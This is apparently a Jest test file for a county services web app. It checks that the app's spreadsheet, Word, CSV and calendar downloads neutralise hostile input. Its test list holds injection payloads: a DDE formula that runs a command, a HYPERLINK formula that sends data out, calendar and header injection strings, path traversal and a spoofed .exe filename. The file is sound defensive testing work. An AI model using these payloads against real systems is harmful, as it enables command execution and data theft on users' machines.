import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { CountyOfBadWords, type DownloadAddresses } from '../support/county-of-bad-words.ts';
import type { Answer } from '../support/county.ts';
import { declaredRoutes } from './declared-routes.ts';

/** What a spreadsheet, a calendar, a browser or a disk would take for more than words. */
const BAD_WORDS = [
  '=HYPERLINK("http://a.invalid/?"&A1,"点我")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1＋1',
  '会\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x\r\nSUMMARY:假的;a,b\\',
  '会\u2028BEGIN:VALARM\u0085ACTION:PROCEDURE\u000bATTACH:ftp://a.invalid/x',
  '../../etc/passwd',
  'C:\\con\u202excod.exe',
  '"\r\nset-cookie: a=b',
  `${'长'.repeat(400)}.exe`,
];

type Check = (answer: Answer) => Promise<void> | void;
interface Kept {
  /** Below `/api`, where a person who may have it gets it. */
  path: (at: DownloadAddresses) => string;
  person?: string;
  /** Shown in place, or for saving. */
  shown?: boolean;
  /** Everybody gets the same, and devices may keep it. */
  isPublic?: boolean;
  check?: Check;
}

/** Every route that answers with a file, and what its file must not become. */
const DOWNLOADS: Record<string, Kept> = {
  'GET /task-breakdowns/:breakdownId/breakdown.xlsx': {
    path: ({ breakdown }) => `/task-breakdowns/${breakdown}/breakdown.xlsx`,
    check: onlyWords,
  },
  'GET /task-breakdowns/:breakdownId/breakdown.docx': {
    path: ({ breakdown }) => `/task-breakdowns/${breakdown}/breakdown.docx`,
    check: nothingFetched,
  },
  'GET /task-breakdowns/:breakdownId/ledger.xlsx': {
    path: ({ inspection }) => `/task-breakdowns/${inspection}/ledger.xlsx`,
    check: onlyWords,
  },
  'GET /task-breakdowns/:breakdownId/heat-table.xlsx': {
    path: ({ breakdown }) => `/task-breakdowns/${breakdown}/heat-table.xlsx`,
    check: onlyWords,
  },
  'GET /supervision-orders/:orderId/document': {
    path: ({ order }) => `/supervision-orders/${order}/document`,
    check: nothingFetched,
  },
  'GET /circulars/:circularId/document': {
    path: ({ circular }) => `/circulars/${circular}/document`,
    check: nothingFetched,
  },
  'GET /files/:fileId': { path: ({ file }) => `/files/${file}` },
  'GET /bookings/:bookingId/calendar-entry': {
    path: ({ booking }) => `/bookings/${booking.id}/calendar-entry?key=${booking.key}`,
    check: (answer) => expect(eventsOf(answer)).toBe(1),
  },
  'GET /public/events/:eventId/calendar-entry': {
    path: ({ event }) => `/public/events/${event}/calendar-entry`,
    isPublic: true,
    check: (answer) => expect(eventsOf(answer)).toBe(1),
  },
  'GET /public/event-feed': {
    path: () => '/public/event-feed',
    isPublic: true,
    shown: true,
    check: (answer) => expect(eventsOf(answer)).toBeGreaterThan(10),
  },
  'GET /public/codes/:key/picture': { path: ({ code }) => `/public/codes/${code}/picture`, shown: true },
  'GET /public/printed-maps': { path: ({ township }) => `/public/printed-maps?unitId=${township}` },
  'GET /public/service-points.geojson': { path: () => '/public/service-points.geojson', isPublic: true },
  'GET /public/service-points.csv': { path: () => '/public/service-points.csv', isPublic: true, check: noFormulas },
  'GET /service-points.xlsx': { path: () => '/service-points.xlsx', person: 'administrator', check: onlyWords },
  'GET /audit-entries.csv': {
    path: () => '/audit-entries.csv?month=2026-11',
    person: 'administrator',
    check: noFormulas,
  },
  'GET /service-points.geojson': { path: () => '/service-points.geojson', person: 'administrator' },
};

describe('downloads', () => {
  let county: CountyOfBadWords;
  const get = async ({ path, person = 'supervisor' }: Kept) => county.booked.map.as(person, 'GET', path(county.at));

  beforeAll(async () => {
    county = await CountyOfBadWords.start();
  });
  afterAll(() => county?.close());

  it('are all known here', () => {
    const files = declaredRoutes.filter(({ response }) => typeof response === 'string');
    expect(Object.keys(DOWNLOADS).sort()).toEqual(files.map(({ method, path }) => `${method} ${path}`).sort());
  });

  it.each(Object.entries(DOWNLOADS))('%s says what it is, and no more', async (_route, download) => {
    await county.say('会议');
    const { status, headers } = await get(download);
    expect(status).toBe(200);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('cache-control')).toMatch(download.isPublic ? /^public, max-age=/ : /^private, no-store$/);
    const disposition = headers.get('content-disposition') ?? 'inline';
    expect(disposition.startsWith('attachment;')).toBe(!download.shown);
  });

  it.each(BAD_WORDS)('hold %j as words, under a harmless name', async (words) => {
    await county.say(words);
    for (const [route, download] of Object.entries(DOWNLOADS)) {
      const answer = await get(download);
      expect([route, answer.status]).toEqual([route, 200]);
      expect(answer.headers.get('set-cookie')).toBeNull();
      const name = decodeURIComponent(
        /filename\*=UTF-8''(.*)$/.exec(answer.headers.get('content-disposition') ?? '')?.[1] ?? '文件',
      );
      expect(name).toMatch(/^[^\p{Cc}\p{Cf}\\/:*?"<>|.][^\p{Cc}\p{Cf}\\/:*?"<>|]{0,119}$/u);
      await download.check?.(answer);
    }
  });
});

const FORMULA = /^\s*[=+\-@＝＋－＠]/;

/** No formula, no link, nothing from elsewhere; what looks like a formula is a cell of the kind "text". */
async function onlyWords({ body }: Answer): Promise<void> {
  const zip = await JSZip.loadAsync(body);
  for (const file of zip.file(/worksheets\/.*xml$/))
    expect((await file.async('string')).match(/<f[\s>]|<hyperlink|<oleObject|<legacyDrawing/)).toBeNull();
  expect(zip.file(/externalLinks|vbaProject|connections/)).toEqual([]);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body);
  let cells = 0;
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell(({ value, numFmt }) => {
        cells += 1;
        if (typeof value !== 'number') expect(typeof value).toBe('string');
        if (FORMULA.test(String(value))) expect([value, numFmt]).toEqual([value, '@']);
      }),
    ),
  );
  expect(cells).toBeGreaterThan(10);
}

/** A document without fields that run, and without parts from elsewhere. */
async function nothingFetched({ body }: Answer): Promise<void> {
  const zip = await JSZip.loadAsync(body);
  for (const file of zip.file(/\.rels$/)) expect(await file.async('string')).not.toMatch(/TargetMode="External"/);
  const words = await zip.file('word/document.xml')!.async('string');
  expect(words).toMatch(/<w:t[ >]/);
  for (const [, field] of words.matchAll(/<w:instrText[^>]*>([^<]*)/g))
    expect(field!.trim()).toMatch(/^(?:PAGE|NUMPAGES)$/);
}

/** RFC 4180, read sign by sign. */
function noFormulas({ body }: Answer): void {
  const cells = [
    ...String(body)
      .replace(/^\uFEFF/, '')
      .matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n"]*))/g),
  ];
  expect(cells.length).toBeGreaterThan(100);
  for (const [, quoted, plain] of cells) expect(quoted ?? plain).not.toMatch(FORMULA);
}

/** How many events a reader finds who takes any sign for the end of a line that any reader takes for it. */
function eventsOf({ body }: Answer): number {
  const lines = String(body).split(/\r\n|[^\P{Cc}\t]|[\u2028\u2029]/u);
  const known =
    /^(?:BEGIN|END):(?:VCALENDAR|VTIMEZONE|STANDARD|VEVENT|VALARM)$|^[ ]|^(?:VERSION|PRODID|CALSCALE|METHOD|TZID|DTSTART|DTEND|DTSTAMP|TZOFFSETFROM|TZOFFSETTO|TZNAME|UID|SEQUENCE|STATUS|SUMMARY|LOCATION|DESCRIPTION|URL|GEO|ACTION|TRIGGER|X-WR-CALNAME|REFRESH-INTERVAL|X-PUBLISHED-TTL)[:;]|^$/;
  expect(lines.filter((line) => !known.test(line))).toEqual([]);
  expect(lines.filter((line) => line.startsWith('ACTION:') && line !== 'ACTION:DISPLAY')).toEqual([]);
  return lines.filter((line) => line === 'BEGIN:VEVENT').length;
}
